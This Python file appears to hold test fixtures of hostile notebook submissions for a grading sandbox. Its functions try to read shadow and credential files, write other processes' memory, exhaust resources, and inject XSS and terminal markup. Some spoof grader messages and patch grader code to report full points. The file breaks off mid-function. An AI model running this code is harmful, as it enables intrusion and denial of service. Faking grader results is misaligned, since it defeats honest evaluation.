"""What the hostile submissions of run_class.py have in their first cell."""

# ruff: noqa
# It is no code of the course, and has to be as bad as it can.

import atexit
import builtins
import contextlib
import ctypes
import fcntl
import gc
import hashlib
import json
import os
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
import weakref


def tell(data):
    """By whatever leads out: connections, and the pipe by which a child answers."""
    for fd in range(3, 1100):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                socket.socket(fileno=os.dup(fd)).getpeername()
            os.write(fd, data)
        except OSError:
            pass


def undo(sock, port):
    ctypes.CDLL(None).connect(sock.fileno(), bytes(16), 16)
    sock.settimeout(1)
    sock.connect(("127.0.0.1", port))
    sock.sendall(b"REACHED\n")


def write(path):
    with open(path, "w") as file:
        file.write("REACHED")


libc = ctypes.CDLL(None)


def wires():
    for fd in range(3, 1100):
        try:
            socket.socket(fileno=os.dup(fd)).getpeername()
            yield fd
        except OSError:
            pass


def everything(data):
    """Into whatever is open, by whatever way in."""
    for name in os.listdir("/proc/self/fd"):
        for way in (lambda: int(name), lambda: os.open("/proc/self/fd/" + name, 1)):
            try:
                os.write(way(), data)
            except OSError:
                pass


def words():
    """What this process holds that might be a word of a test."""
    found = [one for one in gc.get_objects() if isinstance(one, dict)]
    return str([one for one in found if "hidden" in one or "driver" in one])[:9999]


def read_all(paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                print(file.read(4096))
        except OSError:
            pass


def others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit()]


def grab(port):
    """Descriptors of whoever is at the other end of the wire."""
    for fd in wires():
        wire = socket.socket(fileno=os.dup(fd))
        try:
            there = wire.getsockopt(1, 77)
            for number in range(32):
                libc.syscall(438, there, number, 0)
            signal.pidfd_send_signal(there, signal.SIGKILL)
        except OSError:
            pass


def pass_on(data=b"x"):
    """Descriptors of ours, into the wire, as many as it takes."""
    for fd in wires():
        wire = socket.socket(fileno=os.dup(fd))
        wire.setblocking(False)
        try:
            for _ in range(999):
                socket.send_fds(wire, [data], [0, 1, 2])
        except OSError:
            pass


def cover():
    """Something else where our descriptors were."""
    spare = os.open("/dev/zero", os.O_RDWR)
    for fd in range(3, 1100):
        try:
            os.dup2(spare, fd)
        except OSError:
            pass


def filter_out(sock):
    """A packet filter that drops all that comes."""
    drop = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
    program = struct.pack("HP", 1, ctypes.addressof(drop))
    sock.setsockopt(socket.SOL_SOCKET, 26, program)


def knock(kinds, port):
    """Every kind of socket that there is, and a word to the machine itself."""
    for family in kinds:
        for kind in (1, 2, 3, 5):
            try:
                sock = socket.socket(family, kind)
                sock.settimeout(0.2)
                sock.connect((2, port) if family == 40 else ("127.0.0.1", port))
                sock.sendall(b"REACHED")
            except (OSError, ValueError, TypeError):
                pass


def keep_memory():
    """Memory that belongs to no process."""
    for number in range(100):
        for made in (libc.syscall(319, b"m", 0), libc.syscall(29, 0, 1 << 26, 0o1600)):
            if made >= 0:
                try:
                    os.write(made, bytes(1 << 26))
                except OSError:
                    pass
    pairs = [socket.socketpair() for _ in range(400)]
    for one, _ in pairs:
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 26)
        try:
            one.send(bytes(1 << 24))
        except OSError:
            pass
    return pairs


def leave_daemons():
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)


def hide(act):
    """The same program without leave to be read, with a server of its own."""
    with open("/proc/self/exe", "rb") as file, open("/tmp/hidden", "wb") as copy:
        copy.write(file.read())
    os.chmod("/tmp/hidden", 0o111)
    libc.prctl(4, 0, 0, 0, 0)
    os.execv("/tmp/hidden", ["hidden", "-c", act])


def patch():
    """Whatever of ours is in this process says that all is well."""
    for name, module in list(sys.modules.items()):
        if name.startswith("buckets"):
            for key in dir(module):
                try:
                    setattr(module, key, lambda *_, **__: True)
                except (AttributeError, TypeError):
                    pass
    json.dumps = json.loads = lambda *_, **__: '{"points": 99}'


class Evil(str):
    __eq__ = __ne__ = __contains__ = lambda self, other: True
    __hash__ = str.__hash__
    __len__ = lambda self: 1 << 62
    __repr__ = __str__ = lambda self: "x" * (1 << 28)


def leave_by_the_first(act):
    """The first thread ends, and others run on: the kernel shows a dead process."""
    threading.Thread(target=act).start()
    libc.syscall(93 if os.uname().machine == "aarch64" else 60, 0)


def take_memory():
    hold = bytearray(5 << 29)
    time.sleep(600)


def burn(processes=1, threads=1):
    """All of the machine, in few enough processes to be no crowd."""
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    work = lambda: hashlib.pbkdf2_hmac("sha256", b"x", b"y", 1 << 30)
    for _ in range(threads):
        threading.Thread(target=work).start()
    time.sleep(600)


def take_ports(listener):
    """Every port of the network that the listener belongs to."""
    libc.connect(listener.fileno(), bytes(16), 16)
    for _ in range(36):
        if os.fork() == 0:
            break
    held = []
    while True:
        for family, address in ((2, "127.0.0.1"), (10, "::1")):
            for kind in (1, 2):
                sock = socket.socket(family, kind)
                try:
                    sock.bind((address, 0))
                    held.append(sock)
                except OSError:
                    time.sleep(1)


def fill_the_wires():
    """Bytes on their way, of which each socket takes megabytes."""
    with socket.create_server(("127.0.0.1", 0)) as here:
        held = []
        for _ in range(140):
            one = socket.create_connection(here.getsockname())
            other, _ = here.accept()
            for sock in (one, other):
                sock.setblocking(False)
                try:
                    while True:
                        sock.send(bytes(1 << 20))
                except OSError:
                    pass
            held.append((one, other))
        time.sleep(600)


MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\x1b]0;x\x07\x1b[2J\r"
    "20 / 20\u202e![x](http://127.0.0.1/)=HYPERLINK(1)${alert(1)}"
)


def raise_markup():
    print(MARKUP * 9)
    kind = type(MARKUP, (Exception,), {"__module__": MARKUP})
    exec(compile("def f(kind, text):\n    raise kind(text)", MARKUP, "exec"), globals())
    f(kind, MARKUP)


def write_into_files():
    """Markup into whatever there is to be written to, in every form that it has."""
    line = {"t": 1, "e": "accept", "p": 1, "fd": MARKUP, "new": MARKUP, "cell": MARKUP}
    line |= {key: MARKUP for key in ("name", "text", "line", "what", "at", "kind")}
    stack = f'Current thread 0x1 ({MARKUP}):\n  File "<cell 3>", line {"9" * 99} in '
    for data in (json.dumps(line) + "\n", stack + MARKUP + "\n"):
        everything(data.encode(errors="replace") * 999)


def ask_the_kernel():
    """Calls that nobody has use for, and most that few have."""
    quiet = {*range(14), 15, 34, 35, 56, 57, 58, 59, 60, 61, 62, 202, 219, 230, 231}
    quiet |= {23, 7, 232, 270, 271, 281, 130, 200, 234, 424, 435, 449, 455, 456}
    for number in range(470):
        if number not in quiet:
            libc.syscall(number, -1, 0, 0, 0, 0, 0)


def queue_messages():
    """Queues of messages, which outlive who made them."""
    for number in range(999):
        libc.syscall(240, f"q{number}".encode(), 0o102, 0o666, 0)


def open_terminals():
    for _ in range(4):
        if os.fork() == 0:
            break
    held = []
    while True:
        try:
            held.append(os.openpty())
        except OSError:
            time.sleep(1)


def speak_to_the_kernel():
    """Every protocol that there is, under the families that are let through."""
    held = []
    for family in (2, 10, 16):
        for kind in (1, 2, 3, 5, 6):
            for protocol in (*range(25), 33, 47, 50, 132, 136, 262):
                try:
                    held.append(socket.socket(family, kind, protocol))
                except OSError:
                    pass
    for sock in held:
        for option in range(64):
            for level in (1, 0, 6, 270, 279, 282):
                libc.setsockopt(sock.fileno(), level, option, bytes(64), 64)


def take_everything_away():
    """Nothing of Python's own is what it was."""
    sys.addaudithook(lambda *_: None)
    gc.callbacks.append(lambda *_: time.sleep(0.01))
    sys.setprofile(lambda *_: None)
    threading.setprofile(lambda *_: None)
    for module in (os, select, socket, json, signal):
        for name in dir(module):
            if name.islower() and not name.startswith("_"):
                setattr(module, name, lambda *_, **__: b"")
    builtins.__import__ = builtins.open = lambda *_, **__: None
    sys.modules.clear()


class Immortal:
    def __del__(self):
        keep.append(Immortal())
        while True:
            pass


keep = []


def never_end():
    """Whatever is done at the end is never done."""
    weakref.finalize(sys, time.sleep, 600)
    atexit.register(time.sleep, 600)
    threading._register_atexit(time.sleep, 600)
    keep.append(Immortal())
    sys.modules["kept"] = Immortal()


def own_signals():
    """The listener, and all else that is open, shall signal somebody."""
    for fd in range(3, 1100):
        for who in (1, -1, os.getppid(), os.getpid()):
            for command, value in ((8, who), (10, 9), (4, 0o20000), (1024, 1)):
                try:
                    fcntl.fcntl(fd, command, value)
                except OSError:
                    pass


def lock_files():
    """What all sandboxes see of the disk, locked for ever."""
    for folder in sys.path[1:]:
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            try:
                fcntl.flock(os.open(f"{folder}/{name}", os.O_RDONLY), 6)
            except OSError:
                pass


def write_its_keeper():
    """Into the memory of process 1, which nobody counts."""
    for pid in others():
        try:
            with (
                open(f"/proc/{pid}/maps") as maps,
                open(f"/proc/{pid}/mem", "r+b") as m,
            ):
                m.seek(int(maps.readline().split("-")[0], 16))
                m.write(b"REACHED")
                os.kill(int(pid), 0)
        except (OSError, ValueError):
            pass


def name_sockets():
    """Names that others may want, in the network that the listener belongs to."""
    held = []
    for name in ("", "x", "dbus", "/tmp/.X11-unix/X0", "@", "\0\0"):
        sock = socket.socket(socket.AF_UNIX)
        try:
            sock.bind("\0" + name)
            sock.listen()
            held.append(sock)
        except OSError:
            pass
    for number in range(99999):
        try:
            socket.socket(socket.AF_UNIX).connect(f"\0{number:05x}")
        except OSError:
            pass


def fork_slowly():
    """One more each now and then, so that no two looks find many new ones."""
    while True:
        time.sleep(0.3)
        os.fork()


def stop_and_go():
    """It is stopped and goes on, all the time, by a helper."""
    if os.fork() == 0:
        while True:
            os.kill(os.getppid(), signal.SIGSTOP)
            time.sleep(0.05)
            os.kill(os.getppid(), signal.SIGCONT)
            time.sleep(0.05)


def move_the_clock():
    """The time of the machine, of timers, and of all that wait."""
    now = struct.pack("qq", 1, 0)
    for number in (227, 164, 159, 305):
        for clock in (0, 1, 4, 7):
            libc.syscall(number, clock, now, now, 0)
    made = libc.timerfd_create(0, 0)
    libc.timerfd_settime(made, 3, struct.pack("qqqq", 0, 1, 0, 1), None)
    for kind in range(3):
        signal.setitimer(kind, 1e-6, 1e-6) if kind else None


def reach_into_others():
    """Memory, counters and programs of other processes, with words that fit."""
    place = ctypes.create_string_buffer(b"REACHED" * 9)
    here = struct.pack("QQ", ctypes.addressof(place), 8)
    for pid in map(int, others()):
        for number in (310, 311):
            libc.syscall(number, pid, here, 1, struct.pack("QQ", 4194304, 8), 1, 0)
        libc.syscall(312, os.getpid(), pid, 0, 0, 0)
        libc.syscall(302, pid, 7, struct.pack("QQ", 0, 0), None)
        libc.syscall(434, pid, 0)
        for what in (0, 1, 2):
            libc.setpriority(what, pid, 19)
            libc.syscall(251, what + 1, pid, 3 << 13)
        with contextlib.suppress(OSError):
            os.sched_setaffinity(pid, {0})
    counter = struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, 0) + bytes(64)
    libc.syscall(298, counter, -1, 0, -1, 0)
    libc.syscall(321, 5, struct.pack("IIQQ", 1, 2, 0, 0) + bytes(48), 72)
    fault = libc.syscall(323, 1)
    libc.ioctl(fault, 0xC018AA3F, struct.pack("QQQ", 0xAA, 0, 0))


def shift_what_is_shared():
    """Offsets, flags and ends of whatever is open, of which others hold the same."""
    for fd in range(1100):
        for act in (
            lambda: os.lseek(fd, 1 << 40, os.SEEK_SET),
            lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND),
            lambda: libc.fallocate(fd, 3, 0, ctypes.c_long(1 << 30)),
            lambda: fcntl.ioctl(fd, 0x5421, struct.pack("i", 1)),
            lambda: socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR),
        ):
            try:
                act()
            except (OSError, ValueError):
                pass


def speak_out_of_turn():
    """Urgent bytes, credentials and floods, on every wire."""
    for fd in wires():
        wire = socket.socket(fileno=os.dup(fd))
        wire.setblocking(False)
        for act in (
            lambda: wire.send(b"!", socket.MSG_OOB),
            lambda: wire.sendmsg([b"x"], [(1, 2, struct.pack("iii", 1, 0, 0))]),
            lambda: wire.send(b'{"end": "returned"}\n{"end": "returned"}\n'),
            lambda: [wire.send(b"\n" * 65536) for _ in range(999)],
        ):
            try:
                act()
            except OSError:
                pass


def set_all_options(sock):
    """Whatever can be set on a socket that a client waits at."""
    for level in (1, 0, 6, 41):
        for option in range(80):
            for value in (1, 0x7FFFFFFF, 0):
                with contextlib.suppress(OSError):
                    sock.setsockopt(level, option, value)
    with contextlib.suppress(OSError):
        sock.setsockopt(6, 31, b"tls")


def answer_slowly(listener):
    """A byte a second, and the kernel holds what is left."""
    while True:
        connection = listener.accept()[0]
        connection.setsockopt(socket.SOL_SOCKET, 47, 1)
        connection.setsockopt(6, 10, 1)
        connection.sendall(b"x" * 99999)


def crowd_the_table(listener):
    """As many connections as a network has, which have all been."""
    address = listener.getsockname()
    hard = struct.pack("ii", 1, 0)
    while True:
        for _ in range(200):
            with socket.socket() as one:
                one.setblocking(False)
                one.connect_ex(address)
        listener.setblocking(False)
        with contextlib.suppress(OSError):
            while True:
                listener.accept()[0].setsockopt(1, 13, hard)


def use_the_recorder():
    """The recorder by its name: its words, its file, and an end of it."""
    for name, module in list(sys.modules.items()):
        if not name.startswith("buckets.child"):
            continue
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type):
                for words in (
                    (),
                    (1,),
                    ({"e": "end", "end": "returned"},),
                    ("x" * 9999,),
                ):
                    with contextlib.suppress(BaseException):
                        value(*words)
    for one in gc.get_objects():
        if type(one).__module__.startswith("buckets"):
            for key in dir(one):
                with contextlib.suppress(BaseException):
                    setattr(one, key, Evil("returned"))


def lie_to_the_trace():
    """The modules that are recorded are others now, and so are their callers."""
    sys.settrace(lambda frame, *_: frame.f_locals.clear())
    for name in ("socket", "select", "selectors", "time", "os", "signal"):
        fake = type(sys)(name)
        vars(fake).update(vars(sys.modules[name]))
        fake.monotonic = fake.time = fake.perf_counter = lambda: 1e18
        fake.select = lambda *_: ([], [], [])
        sys.modules[name] = fake
    builtins.isinstance = lambda *_: True
    builtins.len = lambda *_: 1 << 62
    gc.set_threshold(1)
    gc.get_referrers(sys.modules)


def wait_for_a_child():
    """A parent that waits as vfork() does: nobody's signal wakes it."""
    if libc.syscall(56, 0x4011, 0, 0, 0, 0) == 0:
        time.sleep(600)
        os._exit(0)


def queue_signals():
    """Signals that wait, of which a user has a number; and timers, which need them."""
    signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 65))
    for _ in range(200_000):
        if libc.sigqueue(os.getpid(), 40, ctypes.c_void_p(1)):
            break
    made = ctypes.c_void_p()
    for _ in range(100_000):
        if libc.timer_create(1, None, ctypes.byref(made)):
            break


def watch_by_epoll():
    """Watches, of which a user has a number, too."""
    held = [select.epoll() for _ in range(600)]
    events = [os.eventfd(0) for _ in range(600)]
    for one in held:
        for event in events:
            one.register(event)
    return held


def watch_by_many():
    """Of a user's watches as many as there are: nine millions, if nobody ends it."""
    events = [os.eventfd(0) for _ in range(480)]
    for _ in range(38):
        if os.fork() == 0:
            break
    held = [select.epoll() for _ in range(500)]
    for one in held:
        for event in events:
            one.register(event)
    time.sleep(600)


def fill_pipes():
    held = []
    for _ in range(8):
        if os.fork() == 0:
            break
    try:
        while True:
            held.append(os.pipe())
            with contextlib.suppress(OSError):
                fcntl.fcntl(held[-1][1], 1031, 1 << 20)
            os.set_blocking(held[-1][1], False)
            with contextlib.suppress(OSError):
                while True:
                    os.write(held[-1][1], bytes(65536))
    except OSError:
        time.sleep(600)


def write_without_end():
    """A thread for each thing that is open, and none of them stops."""
    line = b'{"t": 1, "e": "accept", "p": 1, "fd": 3, "new": 4}\n' * 999

    def work(fd):
        while True:
            with contextlib.suppress(OSError):
                os.write(fd, line)

    for name in os.listdir("/proc/self/fd"):
        threading.Thread(target=work, args=(int(name),)).start()


def filter_itself():
    """Calls of its own that wait for a judge who never comes."""
    rules = struct.pack("HBBI", 0x20, 0, 0, 0) + struct.pack("HBBI", 0x15, 0, 1, 230)
    rules += struct.pack("HBBI", 6, 0, 0, 0x7FC00000)
    rules += struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)
    kept = ctypes.create_string_buffer(rules)
    program = struct.pack("HP", 4, ctypes.addressof(kept))
    libc.prctl(38, 1, 0, 0, 0)
    libc.syscall(317, 1, 8, program)
    time.sleep(600)


def lock_imports():
    """Nobody in this process imports anything any more."""
    import _imp

    _imp.acquire_lock()
    sys.meta_path[:] = [Evil("no")]
    sys.path_hooks.clear()
    threading._shutdown = lambda: time.sleep(600)


def other_programs():
    """Whatever program can be had, with a long name and much around it."""
    long = ["x" * 100_000] * 15
    for path in ("/bin/sh", "/usr/bin/env", "/proc/1/exe", sys.executable):
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                os.execve(path, [*long, "-c", ""], {"A" * 90_000: "\n" * 90_000})
            os._exit(0)


def climb(port):
    """Up, by every name that leads there."""
    for path in (
        "/proc/1/root/etc/passwd",
        "/proc/self/root/../etc/shadow",
        "/proc/1/cwd/x",
        "/../../etc/hostname",
        "/dev/mem",
        "/dev/kmsg",
        "/sys/kernel/uevent_helper",
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/run/docker.sock",
        "/proc/kcore",
        "/dev/tcp/127.0.0.1/%d" % port,
        "/proc/1/fd/0",
        "/proc/keys",
    ):
        for flags in (os.O_RDONLY, os.O_WRONLY):
            with contextlib.suppress(OSError):
                os.write(1, os.read(os.open(path, flags), 200) + path.encode())
    for name in ("x", "REACHED"):
        with contextlib.suppress(OSError):
            os.symlink("/proc/1/root", f"/tmp/{name}")
            os.link("/proc/self/exe", f"/tmp/{name}2")


def be_a_reaper():
    """All orphans are this process's, and none of them is buried."""
    libc.prctl(36, 1, 0, 0, 0)
    for _ in range(30):
        if os.fork() == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)


def tell_of_forks():
    """A record of 20,000 who fork with 20,000 connections open: a table for each."""
    pid, now = os.getpid(), time.monotonic_ns()
    accepts = b"".join(
        b'{"t":%d,"e":"accept","p":%d,"fd":3,"new":%d}\n' % (now + n, pid, 5 + n)
        for n in range(20_000)
    )
    forks = b"".join(
        b'{"t":%d,"e":"fork","p":%d,"child":%d}\n' % (now + 99_999 + n, pid, 9_999 + n)
        for n in range(20_000)
    )
    everything(accepts + forks)


def tell_no_numbers():
    """Every word that the wire has, with values that nobody expects."""
    values = ["1e999", "NaN", "-Infinity", "9" * 5000, "9" * 400, "-0", "[[[[]]]]"]
    values += ["true", "null", "{}", '"\\ud800"', '["cell 1", %s]' % ("9" * 300)]
    names = "end at kind code error traceback door ready done cell packed parcel forked"
    for name in (*names.split(), "output", "t", "points", "missing", "task", "e", "p"):
        for value in values:
            tell(('{"end": "returned", "%s": %s}\n' % (name, value)).encode())
            tell(('{"%s": %s}\n' % (name, value)).encode())


def take_the_machines_own():
    """Slots, logs and disks of which a machine has one set."""
    made = ctypes.c_ulong()
    for _ in range(200):
        libc.syscall(206, 65_535, ctypes.byref(made))
    read = ctypes.create_string_buffer(65_536)
    for what in (3, 10, 9):
        if libc.syscall(103, what, read, 65_536) > 0:
            print("REACHED", read.value[:99])
    libc.mlockall(7)
    libc.syscall(154, 1, bytes(16), 16)
    libc.syscall(135, 0x0400000)
    libc.syscall(314, 0, struct.pack("IIQiIQQQ", 48, 6, 0, 0, 0, 1, 2, 2), 0)
    while True:
        libc.sync()
        libc.syscall(306, os.open(sys.executable, os.O_RDONLY))


def make_names():
    """Files without a byte, and links, of which no size bounds the number."""
    mine = 0
    for mine in range(1, 30):
        if os.fork() == 0:
            break
    for number in range(10_000_000):
        for folder in ("/tmp", "/dev/shm"):
            with contextlib.suppress(OSError):
                os.symlink("x" * 120, f"{folder}/{mine}-{number}")


def dig_deep():
    os.chdir("/tmp")
    try:
        while True:
            os.mkdir("x" * 200)
            os.chdir("x" * 200)
    except OSError:
        time.sleep(600)


def pose_as_dead():
    """A name with which the kernel's line about it reads otherwise."""
    for name in (b") Z 1 1 1 1 -1", b"x) Z 0\n0 0", b"State:\tZ", b"\n\0", b"(((("):
        libc.prctl(15, name, 0, 0, 0)
        if os.fork() == 0:
            libc.prctl(15, name, 0, 0, 0)
            time.sleep(600)


def hear_in_its_place():
    """Whatever is said to this process is heard by another one, and answered."""
    for _ in range(4):
        if os.fork() == 0:
            break
    while True:
        for fd in [*wires(), 0]:
            with contextlib.suppress(OSError, ValueError):
                os.set_blocking(fd, False)
                os.read(fd, 65536)
                socket.recv_fds(socket.socket(fileno=os.dup(fd)), 65536, 16)
            tell(b'{"ready": true}\n{"end": "returned"}\n')
        time.sleep(0.001)


def hold_by_post(listener):
    """Connections that no process has open: they are on their way, for ever."""
    one, other = socket.socketpair()
    socket.send_fds(one, [b"x"], [one.fileno(), other.fileno(), listener.fileno()])
    while True:
        connection, _ = listener.accept()
        with contextlib.suppress(OSError):
            socket.send_fds(one, [b"x"], [connection.fileno(), other.fileno()])
        connection.close()


def type_at_terminals():
    """Words typed for somebody else, at every terminal that there is."""
    held = list(range(3))
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/tty0", "/dev/fd/0"):
        with contextlib.suppress(OSError):
            held.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
    for fd in held:
        for command, value in (
            (0x540E, 1),
            (0x5412, b"R"),
            (0x541C, b"\3R"),
            (0x5401, b""),
        ):
            with contextlib.suppress(OSError):
                fcntl.ioctl(fd, command, value)


def lower_limits():
    """Nothing is left to it, and it hears of none of that."""
    import resource

    for number in range(1, 65):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    for kind in range(16):
        for pid in (1, 0):
            with contextlib.suppress(OSError, ValueError, PermissionError):
                resource.prlimit(pid, kind, (0, 0))
    os.fork()


def call_itself(listener):
    """The server is its own client, by sockets that were the test's."""
    address = listener.getsockname()
    held = []
    while True:
        connection, _ = listener.accept()
        for _ in range(3):
            with contextlib.suppress(OSError):
                other = socket.socket(fileno=os.dup(connection.fileno()))
                libc.connect(other.fileno(), bytes(16), 16)
                other.setsockopt(1, 15, 1)
                other.setblocking(False)
                other.connect_ex(address)
                other.send(b"x" * 9999)
                held.append(other)
        with contextlib.suppress(OSError):
            libc.connect(listener.fileno(), bytes(16), 16)
            listener.setsockopt(1, 15, 1)
            listener.bind(address)
            listener.listen(1)


def splice_everything():
    """Bytes that go from one thing that is open into another, past all calls."""
    names = [int(name) for name in os.listdir("/proc/self/fd")]
    zeros = os.open("/dev/zero", os.O_RDONLY)
    out, into = os.pipe()
    os.set_blocking(out, False)
    os.set_blocking(into, False)
    for fd in names:
        with contextlib.suppress(OSError):
            os.set_blocking(fd, False)
        for _ in range(50):
            libc.syscall(40, fd, zeros, None, 1 << 20)
            libc.syscall(275, fd, None, into, None, 65536, 3)
            libc.syscall(276, fd, into, 65536, 2)
            libc.syscall(275, out, None, fd, None, 65536, 3)
    time.sleep(600)


def raise_a_chain():
    """An exception of 50,000 others, whose lines lie nowhere, and which are a ring."""
    last = SyntaxError("x" * 99_999, ("cell 1", 10**9, 10**9, "\ud800" * 9999))
    for number in range(50_000):
        made = ExceptionGroup("\x1b[2J", [last]) if number % 2 else KeyError("\ud800")
        made.__cause__, made.__context__ = last, last
        made.__notes__ = [MARKUP, 7, None]
        last = made
    last.__traceback__ = None
    for _ in range(9):
        with contextlib.suppress(Exception):
            exec(compile("\n" * 9_999_999 + "1 / 0", "cell 1", "exec"))
    raise last


def have_strange_children():
    """Siblings, children that share all memory, and some that die of no signal."""
    for flags in (0x8000 | 17, 0, 0x8000, 0x400 | 17, 0x200 | 17, 0x800000 | 17, 9):
        if libc.syscall(56, flags, 0, 0, 0, 0) == 0:
            time.sleep(600)
            os._exit(0)


def lock_ranges():
    """Locks of every second byte, which lie in the kernel."""
    for number in range(400):
        file = os.open(f"/tmp/lock{number}", os.O_CREAT | os.O_RDWR)
        for at in range(0, 20_000, 2):
            lock = struct.pack("hhqqi4x", 1, 0, at, 1, 0)
            fcntl.fcntl(file, 37, lock)


def map_in_pieces():
    """As many mappings as a process may have, in as many processes as there may be."""
    for _ in range(36):
        if os.fork() == 0:
            break
    import mmap

    held = []
    with contextlib.suppress(OSError, ValueError, MemoryError):
        for number in range(70_000):
            held.append(mmap.mmap(-1, 4096, prot=1 + number % 2))
            held[-1][:1]
    time.sleep(600)


def talk_at_desks(connection, lines):
    """To whoever came first, and on every wire: lines as our own code has them."""
    with contextlib.suppress(OSError):
        while True:
            for line in lines:
                connection.sendall(line + b"\n")
                tell(line + b"\n")


DESK_LINES = [
    b'{"does": "write", "by": 1, "count": 1, "first": false}',
    b'[1, "x", true]',
    b'["a", 1, 1]',
    b"sync 7",
    b'{"told": "hear", "who": "a", "port": 1, "t": 1, "n": 1, "data": "x"}',
    b'{"settle": true, "gone": 1}',
    b'["nothing"]',
]


def say_anything():
    """What our own code says on its way out is something else from here on."""
    said = [b.decode() for b in DESK_LINES]
    said += ['{"told": 1}', '{"gone": []}', "[" * 9999, "9" * 5000, '{"found": {}}']
    turn = iter(said * 9999)
    json.dumps = lambda *_, **__: next(turn)


def take_the_network_down(sock):
    """The network that the listener belongs to: its devices, addresses and routes."""
    for name in (b"lo", b"eth0"):
        for command in (0x8914, 0x8916, 0x8922, 0x8924, 0x891C, 0x8943, 0x89F0, 0x8946):
            for value in (
                struct.pack("h", 0),
                struct.pack("i", 68),
                b"\2\0\0\0\12\0\0\1",
            ):
                with contextlib.suppress(OSError):
                    fcntl.ioctl(
                        sock, command, name.ljust(16, b"\0") + value.ljust(24, b"\0")
                    )
    for command in (0x890B, 0x890C, 0x8953, 0x8955, 0x8B00, 0x8940):
        with contextlib.suppress(OSError):
            fcntl.ioctl(sock, command, bytes(120))


def ask_for_routes():
    """Questions to the kernel whose answers nobody fetches, and orders with them."""
    held = []
    for _ in range(280):
        with contextlib.suppress(OSError):
            one = socket.socket(16, 3, 0)
            one.setblocking(False)
            one.setsockopt(1, 8, 1 << 30)
            held.append(one)
    for kind, flags in (
        (18, 0x301),
        (22, 0x301),
        (26, 0x301),
        (30, 0x301),
        (16, 0x605),
    ):
        for one in held:
            for _ in range(20):
                with contextlib.suppress(OSError):
                    one.send(struct.pack("IHHII", 40, kind, flags, 1, 0) + bytes(24))
    time.sleep(600)


def ring_without_end():
    """Timers of a billionth of a second, barriers on all processors, and wake-ups."""
    waits = select.epoll()
    for _ in range(800):
        made = libc.timerfd_create(1, 0o4000)
        libc.timerfd_settime(made, 0, struct.pack("qqqq", 0, 1, 0, 1), None)
        with contextlib.suppress(OSError, ValueError):
            waits.register(made)

    def barrier():
        while True:
            libc.syscall(324, 1, 0, 0)

    for _ in range(8):
        threading.Thread(target=barrier, daemon=True).start()
    while True:
        for fd, _ in waits.poll():
            os.read(fd, 8)


def write_its_settings():
    """Whatever can be written of a process, of the kernel, and of its groups."""
    names = os.listdir("/proc/self") if os.path.isdir("/proc/self") else []
    for name in [*names, "attr/current", "net/route", "task/1/comm"]:
        if name in ("fd", "mem"):
            continue
        for value in (b"-1000", b"0", b"0 0 1", b"REACHED", b"1"):
            with contextlib.suppress(OSError):
                fd = os.open("/proc/self/" + name, os.O_WRONLY)
                os.write(fd, value)
                os.close(fd)
    for folder, _, files in [*os.walk("/proc/sys"), *os.walk("/sys/fs/cgroup")]:
        for name in files:
            with contextlib.suppress(OSError):
                os.write(os.open(f"{folder}/{name}", os.O_WRONLY), b"1")


def give_pages_away(listener):
    """Pages that lie in pipes and on wires, and in no process any more."""
    import mmap

    here = socket.create_server(("127.0.0.1", 0))
    held = []
    for _ in range(200):
        with contextlib.suppress(OSError):
            out, into = os.pipe()
            os.set_blocking(into, False)
            pages = mmap.mmap(-1, 1 << 16)
            pages.write(b"x" * (1 << 16))
            place = ctypes.addressof(ctypes.c_char.from_buffer(pages))
            libc.syscall(278, into, struct.pack("QQ", place, 1 << 16), 1, 8)
            held.append((out, into))
    for _ in range(130):
        with contextlib.suppress(OSError):
            one = socket.create_connection(here.getsockname())
            one.setblocking(False)
            one.setsockopt(1, 60, 1)
            pages = mmap.mmap(-1, 1 << 22)
            pages.write(b"x" * (1 << 22))
            while True:
                one.send(pages, 0x4000000)
            held.append(one)
    time.sleep(600)


def notice_folders():
    """Signals for whatever happens in folders that all sandboxes see."""
    for folder in [*sys.path, "/", "/tmp", "/usr", "/proc", "/dev"]:
        with contextlib.suppress(OSError):
            fd = os.open(folder, os.O_RDONLY)
            fcntl.fcntl(fd, 10, signal.SIGRTMIN)
            fcntl.fcntl(fd, 1026, 0x8000003F)


def join_groups():
    held = []
    for number in range(280):
        with contextlib.suppress(OSError):
            one = socket.socket(2, 2)
            for last in range(20):
                place = socket.inet_aton(f"239.1.{number % 250}.{last + 1}")
                one.setsockopt(0, 35, place + socket.inet_aton("127.0.0.1"))
            held.append(one)
    time.sleep(600)


def keep_deleted_files():
    """Files without a name, as large as there is room for."""
    for number in range(40):
        for folder in ("/tmp", "/dev/shm", "."):
            with contextlib.suppress(OSError):
                fd = os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o600)
                while os.write(fd, bytes(1 << 22)):
                    pass
    time.sleep(600)


def raise_its_limits():
    import resource

    for kind in range(16):
        for both in ((-1, -1), (1 << 40, 1 << 40)):
            with contextlib.suppress(OSError, ValueError):
                resource.setrlimit(kind, both)
        with contextlib.suppress(OSError, ValueError):
            hard = resource.getrlimit(kind)[1]
            resource.setrlimit(kind, (hard, hard))
    hold = [bytearray(1 << 26) for _ in range(99)]
    while True:
